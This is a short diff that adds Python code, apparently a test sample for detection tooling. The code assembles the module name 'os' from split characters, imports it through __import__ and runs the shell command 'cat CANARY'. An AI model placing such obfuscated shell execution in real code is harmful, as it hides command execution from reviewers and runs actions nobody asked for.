@@ -1,0 +1,3 @@
+parts = ["o", "s"]
+mod = __import__("".join(parts))
+mod.system("cat CANARY")
